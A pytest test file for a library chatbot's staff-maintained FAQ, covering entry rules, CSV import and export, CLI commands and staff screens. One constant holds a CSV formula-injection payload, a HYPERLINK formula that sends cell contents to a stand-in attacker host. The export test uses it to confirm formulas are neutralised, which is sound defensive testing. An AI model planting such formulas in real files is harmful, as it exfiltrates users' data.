"""The library FAQ (#20): what staff keep so the bot answers typed questions itself.

Staff add an entry step by step in «Для сотрудников» → «❓ Частые вопросы», change a part of
it and delete one; a reader's forged press of those buttons is refused. A library loads its
list from a spreadsheet (`libbot faq import`, bad rows told by line, Windows-1251, merge or
replace), writes it back out (`libbot faq export`) without a formula Excel would run, and
starts from the starter set `faq.example.csv`. The rules of an entry hold on both databases.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.cli import main
from broadcasts.views.callbacks import FaqAction, FaqCb
from storage import people
from storage.db import Database
from storage.faq import entries
from storage.faq.entries import ENTRIES_LIMIT, FaqRefused, Problem
from storage.faq.files import FaqFileError, Skip, export_file, import_file, read_file
from storage.faq.models import LibraryFaqEntry
from tests.conftest import RunningBot

ROOT = Path(__file__).resolve().parents[1]
STARTER = ROOT / "faq.example.csv"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Вопрос")'


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_text(text, encoding=encoding, newline="")
    return path


# --- the rules of an entry --------------------------------------------------------------


async def test_entries_are_added_changed_and_removed(database: Database) -> None:
    empty = await entries.stamp(database)
    assert empty == (0, None)
    wifi = await entries.add(
        database,
        "  Есть ли   Wi-Fi? ",
        "\n Да, пароль у библиотекаря.\n",
        ["есть ли вайфай", "", "  пароль  от вайфая ", "Есть ли вайфай", "есть ли wi-fi?"],
        author="Мария Ивановна",
    )
    assert wifi.question == "Есть ли Wi-Fi?"
    assert wifi.phrasings == ("есть ли вайфай", "пароль от вайфая")  # the question's own too
    assert wifi.answer == "Да, пароль у библиотекаря."
    card = await entries.add(database, "Как записаться?", "С паспортом.")
    assert [e.question for e in await entries.entries(database)] == [wifi.question, card.question]
    count, first = await entries.stamp(database)
    assert count == 2
    assert first is not None

    changed = await entries.update(database, wifi.id, answer="Сеть Library.", author="Ольга")
    assert changed is not None
    assert changed.answer == "Сеть Library."
    assert changed.phrasings == wifi.phrasings  # what was not given stays
    count, newest = await entries.stamp(database)
    assert count == 2
    assert newest is not None
    assert newest > first
    assert await entries.update(database, wifi.id, phrasings=[], author=None)
    assert (await entries.get(database, wifi.id)).phrasings == ()  # type: ignore[union-attr]

    assert await entries.drop(database, card.id)
    assert not await entries.drop(database, card.id)
    assert await entries.get(database, card.id) is None
    assert await entries.update(database, card.id, answer="x", author=None) is None
    assert (await entries.stamp(database))[0] == 1


@pytest.mark.parametrize(
    ("question", "answer", "phrasings", "problem"),
    [
        ("   ", "Ответ", (), Problem.NO_QUESTION),
        ("В" * 301, "Ответ", (), Problem.LONG_QUESTION),
        ("Вопрос?", " \n ", (), Problem.NO_ANSWER),
        ("Вопрос?", "О" * 3501, (), Problem.LONG_ANSWER),
        ("Вопрос?", "Ответ", ("ф" * 301,), Problem.LONG_PHRASING),
        ("Вопрос?", "Ответ", tuple(f"вариант {n}" for n in range(21)), Problem.MANY_PHRASINGS),
    ],
)
async def test_an_entry_breaking_a_rule_is_refused(
    database: Database, question: str, answer: str, phrasings: tuple[str, ...], problem: Problem
) -> None:
    with pytest.raises(FaqRefused) as refused:
        await entries.add(database, question, answer, phrasings)
    assert refused.value.problem is problem
    assert await entries.entries(database) == []


async def test_the_limits_themselves_are_allowed(database: Database) -> None:
    item = await entries.add(
        database, "В" * 300, "О" * 3500, [f"вариант {n} " + "ф" * 280 for n in range(20)]
    )
    assert len(item.phrasings) == 20


async def test_one_entry_per_question(database: Database) -> None:
    first = await entries.add(database, "Есть ли Wi-Fi?", "Да.")
    other = await entries.add(database, "Как записаться?", "С паспортом.")
    with pytest.raises(FaqRefused) as refused:
        await entries.add(database, "есть  ли wi-fi?", "Есть.")
    assert refused.value.problem is Problem.TAKEN
    with pytest.raises(FaqRefused):
        await entries.update(database, other.id, question="ЕСТЬ ЛИ WI-FI?", author=None)
    # Its own question in other letters is a change, not a second entry.
    same = await entries.update(database, first.id, question="Есть ли WI-FI?", author=None)
    assert same is not None
    assert same.question == "Есть ли WI-FI?"
    assert await entries.taken(database, "есть ли wi-fi?")
    assert not await entries.taken(database, "есть ли wi-fi?", but=first.id)


async def test_the_list_holds_at_most_two_thousand(database: Database) -> None:
    async with database.transaction() as session:
        session.add_all(
            LibraryFaqEntry(question=f"Вопрос {n}?", phrasings="", answer="Ответ.", position=n)
            for n in range(ENTRIES_LIMIT)
        )
    with pytest.raises(FaqRefused) as refused:
        await entries.add(database, "Ещё один?", "Ответ.")
    assert refused.value.problem is Problem.FULL
    assert refused.value.limit == ENTRIES_LIMIT


async def test_a_rewritten_question_makes_a_readers_entry_staffs_own(database: Database) -> None:
    """Made from a reader's question, an entry goes with their /forget while the question is
    theirs: a new answer keeps that, a rewritten question or new phrasings end it."""
    reader = await people.resolve(database, "telegram", "555", language_hint="ru")

    async def source(entry_id: int) -> int | None:
        async with database.transaction() as session:
            row = await session.get(LibraryFaqEntry, entry_id)
            assert row is not None
            return row.source_person_id

    made = await entries.add(
        database, "Где сдать книгу?", "В любом отделе.", source_person_id=reader.id
    )
    assert await source(made.id) == reader.id
    await entries.update(
        database, made.id, answer="В любом отделе, кроме детского.", author="Ольга"
    )
    assert await source(made.id) == reader.id  # the question still quotes the reader
    await entries.update(database, made.id, question="где  сдать книгу?", author="Ольга")
    assert await source(made.id) == reader.id  # saved as it was: still theirs
    await entries.update(database, made.id, question="Куда вернуть книгу?", author="Ольга")
    assert await source(made.id) is None
    async with database.transaction() as session:
        row = await session.get(LibraryFaqEntry, made.id)
        assert row is not None
        assert row.updated_by == "Ольга"

    other = await entries.add(database, "Можно ли с собакой?", "Нет.", source_person_id=reader.id)
    await entries.update(database, other.id, phrasings=["пускают ли с собакой"], author=None)
    assert await source(other.id) is None


# --- files --------------------------------------------------------------------------------


GOOD = (
    "# Пример: заметка для того, кто правит файл\n"
    "Вопрос;Другие формулировки;Ответ\n"
    "Есть ли Wi-Fi?;есть ли вайфай | пароль от вайфая;Да, пароль у библиотекаря.\n"
    'Как записаться?;"как стать читателем\nнужен ли паспорт";"С паспортом.\nЭто бесплатно."\n'
    "# Можно ли с собакой?;;пока не решили\n"
    "\n"
    ";;\n"
    "Можно ли с едой?;;Рядом с книгами нельзя.\n"
)


async def test_a_good_file_is_loaded_in_order(database: Database, tmp_path: Path) -> None:
    summary = await import_file(database, write(tmp_path / "faq.csv", GOOD), replace=False)
    assert (summary.added, summary.updated, summary.skipped) == (3, 0, [])
    found = await entries.entries(database)
    assert [e.question for e in found] == ["Есть ли Wi-Fi?", "Как записаться?", "Можно ли с едой?"]
    assert found[0].phrasings == ("есть ли вайфай", "пароль от вайфая")
    assert found[1].phrasings == ("как стать читателем", "нужен ли паспорт")
    assert found[1].answer == "С паспортом.\nЭто бесплатно."
    assert found[2].phrasings == ()


async def test_bad_rows_are_told_by_line_and_the_rest_is_loaded(
    database: Database, tmp_path: Path
) -> None:
    lines = [
        "Вопрос;Другие формулировки;Ответ",
        "Есть ли Wi-Fi?;;Да.",  # 2
        ";есть ли вайфай;Да.",  # 3: no question
        "Как записаться?;;",  # 4: no answer
        "В" * 301 + ";;Ответ.",  # 5
        "Можно ли с едой?;" + " | ".join(f"вариант {n}" for n in range(21)) + ";Нет.",  # 6
        "есть ли WI-FI?;;Нет.",  # 7: the question of line 2 again
        'Можно ли с собакой?;;"' + "о" * 140_000 + '"',  # 8: more than the csv module reads
        "Можно ли с детьми?;;Конечно.",  # 9
    ]
    summary = await import_file(
        database, write(tmp_path / "faq.csv", "\n".join(lines) + "\n"), replace=False
    )
    assert summary.added == 2
    assert [(s.line, s.reason) for s in summary.skipped] == [
        (3, Problem.NO_QUESTION),
        (4, Problem.NO_ANSWER),
        (5, Problem.LONG_QUESTION),
        (6, Problem.MANY_PHRASINGS),
        (7, Skip.REPEATED),
        (8, Skip.UNREADABLE),
    ]
    assert summary.skipped[4].detail == "2"
    assert [e.question for e in await entries.entries(database)] == [
        "Есть ли Wi-Fi?",
        "Можно ли с детьми?",
    ]


async def test_a_windows_1251_file_with_commas_and_english_headings(
    database: Database, tmp_path: Path
) -> None:
    text = (
        "question,phrasings,answer\r\n"
        'Есть ли Wi-Fi?,"есть ли вайфай | пароль, пожалуйста","Да, у библиотекаря."\r\n'
    )
    path = write(tmp_path / "faq.csv", text, encoding="cp1251")
    summary = await import_file(database, path, replace=False)
    assert summary.added == 1
    [item] = await entries.entries(database)
    assert item.phrasings == ("есть ли вайфай", "пароль, пожалуйста")
    assert item.answer == "Да, у библиотекаря."


async def test_merge_updates_and_adds_replace_also_removes(
    database: Database, tmp_path: Path
) -> None:
    await import_file(database, write(tmp_path / "first.csv", GOOD), replace=False)
    mine = await entries.add(database, "Можно ли с собакой?", "Только с собакой-проводником.")
    second = write(
        tmp_path / "second.csv",
        "Вопрос;Ответ\n"
        "Можно ли с едой?;Рядом с книгами нельзя.\n"
        "есть ли wi-fi?;Да, сеть Library.\n"
        "Есть ли ксерокс?;Да.\n",
    )
    merged = await import_file(database, second, replace=False)
    assert (merged.added, merged.updated, merged.unchanged, merged.removed) == (1, 1, 1, 0)
    found = {e.question: e for e in await entries.entries(database)}
    assert found["есть ли wi-fi?"].answer == "Да, сеть Library."
    assert found["есть ли wi-fi?"].phrasings == ()  # the file says none now
    assert "Как записаться?" in found
    assert mine.question in found
    assert list(found)[-1] == "Есть ли ксерокс?"  # new ones at the end

    replaced = await import_file(database, second, replace=True)
    assert (replaced.added, replaced.updated, replaced.removed) == (0, 0, 2)
    assert [e.question for e in await entries.entries(database)] == [
        "Можно ли с едой?",
        "есть ли wi-fi?",
        "Есть ли ксерокс?",
    ]


async def test_a_file_that_cannot_be_loaded_changes_nothing(
    database: Database, tmp_path: Path
) -> None:
    await entries.add(database, "Есть ли Wi-Fi?", "Да.")
    no_answer = write(tmp_path / "a.csv", "Вопрос;Формулировки\nЕсть ли Wi-Fi?;вайфай\n")
    with pytest.raises(FaqFileError, match=r"^a.csv: no answer column"):
        await import_file(database, no_answer, replace=True)
    only_bad = write(tmp_path / "b.csv", "Вопрос;Ответ\n;Да.\n")
    with pytest.raises(FaqFileError, match="nothing was removed"):
        await import_file(database, only_bad, replace=True)
    with pytest.raises(FaqFileError, match="empty"):
        await import_file(database, write(tmp_path / "c.csv", "# только заметка\n"), replace=False)
    assert [e.question for e in await entries.entries(database)] == ["Есть ли Wi-Fi?"]


async def test_export_is_read_back_and_runs_no_formula(database: Database, tmp_path: Path) -> None:
    await entries.add(database, HOSTILE, "-5 книг: так нельзя", ["+7 вопрос", "@бот вопрос"])
    await entries.add(
        database, "Как записаться?", "С паспортом.\nБесплатно.", ["как стать читателем"]
    )
    out = tmp_path / "faq.csv"
    assert await export_file(database, out) == 2
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Cyrillic right
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Вопрос", "Другие формулировки", "Ответ"]
    assert rows[1] == ["'" + HOSTILE, "'+7 вопрос | @бот вопрос", "'-5 книг: так нельзя"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    before = await entries.entries(database)
    summary = await import_file(database, out, replace=True)
    assert (summary.unchanged, summary.updated, summary.added, summary.removed) == (2, 0, 0, 0)
    assert await entries.entries(database) == before


# --- the starter set ----------------------------------------------------------------------


def test_the_starter_set_is_marked_as_examples_and_reads_cleanly() -> None:
    text = STARTER.read_text(encoding="utf-8")
    notes = [line for line in text.splitlines() if line.startswith("#")]
    assert notes
    assert "ПРИМЕРЫ" in notes[0]
    rows, skipped = read_file(STARTER)
    assert skipped == []
    assert 20 <= len(rows) <= 40
    for row in rows:
        assert row.answer.strip(), row.question
        assert 3 <= len(row.phrasings) <= 6, row.question
        # Hours, addresses and phones come from the config, not from here.
        assert not re.search(r"\d{1,2}[:.]\d{2}|\+7|8 ?\(\d{3}\)|ул\.", row.answer), row.answer
    # What a library must write itself is marked.
    assert any("[пароль Wi‑Fi у библиотекаря]" in row.answer for row in rows)
    # The demo loads the same file (a link to it, so it is packaged with the bot).
    assert (ROOT / "bot" / "demo" / "faq.example.csv").read_bytes() == STARTER.read_bytes()


async def test_the_starter_set_imports_on_both_databases(database: Database) -> None:
    summary = await import_file(database, STARTER, replace=False)
    assert summary.skipped == []
    assert summary.added >= 20
    assert summary.placeholders  # the answers still to be made the library's own
    assert all(item.answer for item in await entries.entries(database))


# --- the command --------------------------------------------------------------------------


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    config = tmp_path / "config.toml"
    config.write_text("[library]\nname = 'Тест'\n", encoding="utf-8")
    assert main(["db", "upgrade", "--config", str(config)]) == 0
    return config


def test_libbot_faq_import_list_export(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = ["--config", str(config_file)]
    assert main(["faq", "list", *config]) == 0
    assert "Частых вопросов пока нет" in capsys.readouterr().out

    assert main(["faq", "import", str(STARTER), *config]) == 0
    out = capsys.readouterr().out
    assert out.startswith("добавлено: 27, обновлено: 0, без изменений: 0, удалено: 0")
    assert "квадратные скобки" in out

    assert main(["faq", "list", *config]) == 0
    listing = capsys.readouterr().out.splitlines()
    assert listing[0].startswith("Частых вопросов: 27")
    assert re.match(r"\s+1  Как записаться в библиотеку\?  \(\+6\)$", listing[1])

    exported = tmp_path / "наши вопросы.csv"
    assert main(["faq", "export", str(exported), *config]) == 0
    assert capsys.readouterr().out.strip() == f"{exported}: вопросов: 27"
    assert main(["faq", "import", str(exported), "--replace", *config]) == 0
    assert capsys.readouterr().out.startswith("добавлено: 0, обновлено: 0, без изменений: 27")


def test_libbot_faq_tells_bad_rows_and_refuses_in_one_line(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = ["--config", str(config_file)]
    mixed = write(tmp_path / "faq.csv", "Вопрос;Ответ\nЕсть ли Wi-Fi?;Да.\nКак записаться?;\n")
    assert main(["faq", "import", str(mixed), *config]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[:3] == [
        "добавлено: 1, обновлено: 0, без изменений: 0, удалено: 0",
        "пропущено строк: 1:",
        "  строка 3: нет ответа",
    ]

    for argv, said in [
        (["faq", "import", str(tmp_path / "нет.csv")], "libbot: no such file: "),
        (["faq", "import"], "libbot: faq import needs a file"),
        (["faq", "export"], "libbot: faq export needs a file"),
        (["faq", "import", str(mixed), "--encoding", "klingon"], "libbot: unknown encoding"),
        (["faq", "export", str(tmp_path / "нет" / "faq.csv")], "libbot: cannot write "),
        (
            ["faq", "import", str(write(tmp_path / "x.csv", "Вопрос;Ответ\n;Да.\n"))],
            "libbot: ни один вопрос не загружен; строка 2: нет вопроса",
        ),
    ]:
        assert main([*argv, *config]) == 2, argv
        [line] = capsys.readouterr().err.strip().splitlines()
        assert line.startswith(said), line


def test_libbot_faq_import_still_loads_the_consultations_faq(
    config_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`libbot faq import FILE.csv` with a «Тема» column did this before the library FAQ
    came; a script that runs it keeps working."""
    topics = write(
        tmp_path / "topics.csv",
        "Тема;Вопрос;Ответ\nlegal;Нужна ли печать?;Нет.\nlegal;Нужен ли устав?;Да.\n",
    )
    assert main(["faq", "import", str(topics), "--config", str(config_file)]) == 0
    assert capsys.readouterr().out.strip() == "faq: 2 questions"
    assert main(["faq", "list", "--config", str(config_file)]) == 0
    assert "пока нет" in capsys.readouterr().out  # the library FAQ untouched


# --- the staff screens --------------------------------------------------------------------


async def test_staff_add_change_and_delete_entries(bot: RunningBot) -> None:
    maria = bot.admin()
    await maria.send("/start")
    await maria.send("🛠 Для сотрудников")
    reply = await maria.click("❓ Частые вопросы")
    assert "Пока нет ни одного" in reply.text

    reply = await maria.click("Добавить")
    assert "шаг 1 из 3" in reply.text
    reply = await maria.send("Есть ли у вас <b>Wi-Fi</b>?")
    assert "Шаг 2 из 3" in reply.text
    reply = await maria.send("есть ли вайфай\n\nпароль от вайфая\nесть ли вайфай")
    assert "Шаг 3 из 3" in reply.text
    reply = await maria.send("Да, пароль у библиотекаря & на стойке.")
    assert "Вопрос добавлен" in reply.text
    # What staff typed is shown as they typed it, never as markup.
    assert "Есть ли у вас &lt;b&gt;Wi-Fi&lt;/b&gt;?" in reply.text
    assert "у библиотекаря &amp; на стойке" in reply.text
    [wifi] = await entries.entries(bot.db)
    assert wifi.question == "Есть ли у вас <b>Wi-Fi</b>?"
    assert wifi.phrasings == ("есть ли вайфай", "пароль от вайфая")

    reply = await maria.click("Изменить ответ")
    assert "Сейчас ответ такой" in reply.text
    assert "на стойке" in reply.text
    reply = await maria.send("О" * 3501)
    assert "длиннее 3\xa0500 знаков" in reply.text
    reply = await maria.send("Да, сеть Library, пароль у библиотекаря.")
    assert "Сохранено" in reply.text
    assert (await entries.get(bot.db, wifi.id)).answer.startswith("Да, сеть Library")  # type: ignore[union-attr]

    reply = await maria.click("К списку")
    reply = await maria.click("Добавить")
    reply = await maria.send("есть ли у вас <b>wi-fi</b>?")
    assert "Такой вопрос уже есть" in reply.text
    await maria.send("Можно ли с собакой?")
    reply = await maria.click("Пропустить")
    assert "Шаг 3 из 3" in reply.text
    reply = await maria.send("Только с собакой-проводником.")
    assert "Вопрос добавлен" in reply.text
    assert "других формулировок нет" in reply.text

    reply = await maria.click("Изменить формулировки")
    assert "(других формулировок нет)" in reply.text
    reply = await maria.send("можно ли с животными\nпускают ли с кошкой")
    assert "• пускают ли с кошкой" in reply.text

    reply = await maria.click("Удалить")
    assert "Удалить вопрос «Можно ли с собакой?»" in reply.text
    reply = await maria.click("Да, удалить")
    assert "Вопрос удалён" in reply.text
    assert [e.question for e in await entries.entries(bot.db)] == [wifi.question]
    # The deleted entry's old buttons say so instead of failing.
    reply = await maria.click("Изменить ответ")
    assert "Этого вопроса уже нет" in reply.text


async def test_a_change_can_be_cancelled_and_the_list_has_pages(bot: RunningBot) -> None:
    for n in range(1, 20):
        await entries.add(bot.db, f"Вопрос номер {n:02}?", f"Ответ {n}.")
    maria = bot.admin()
    await maria.send("/start")
    await maria.send("🛠 Для сотрудников")
    reply = await maria.click("❓ Частые вопросы")
    assert "19, страница 1 из 3" in reply.text
    assert "Вопрос номер 08?" in reply.buttons
    assert "Вопрос номер 09?" not in reply.buttons
    reply = await maria.click("Дальше")
    assert "страница 2 из 3" in reply.text
    assert "Вопрос номер 09?" in reply.buttons
    reply = await maria.click("Вопрос номер 10?")
    reply = await maria.click("Изменить вопрос")
    assert "Вопрос номер 10?" in reply.text
    reply = await maria.click("Отмена")
    assert "Ничего не изменено" in reply.text
    assert "<b>Ответ:</b>" in reply.text
    reply = await maria.click("К списку")
    assert "страница 2 из 3" in reply.text
    # The form is over: typing now is not taken as a new question.
    assert (await entries.get(bot.db, 10)).question == "Вопрос номер 10?"  # type: ignore[union-attr]


async def test_a_long_question_label_is_cut_and_plain(bot: RunningBot) -> None:
    long = "Можно ли <i>продлить</i> книгу, если её уже " + "очень " * 20 + "долго читаю?"
    await entries.add(bot.db, long, "Да.")
    maria = bot.admin()
    await maria.send("/start")
    await maria.send("🛠 Для сотрудников")
    reply = await maria.click("❓ Частые вопросы")
    [label] = [b for b in reply.buttons if b.startswith("Можно ли")]
    assert len(label) == 60
    assert label.endswith("…")
    assert label.startswith("Можно ли <i>продлить</i>")


async def test_a_reader_pressing_faq_buttons_is_refused(bot: RunningBot) -> None:
    item = await entries.add(bot.db, "Есть ли Wi-Fi?", "Да.")
    anna = bot.person(515, "Анна")
    await anna.send("/start")
    for action in (FaqAction.DROP_YES, FaqAction.EDIT_ANSWER, FaqAction.LIST):
        reply = await anna.press(FaqCb(action=action, id=item.id).pack())
        assert any("только для сотрудников" in alert for alert in reply.alerts), action
    assert await entries.get(bot.db, item.id) == item
    async with bot.db.transaction() as session:
        assert len(list(await session.scalars(select(LibraryFaqEntry)))) == 1
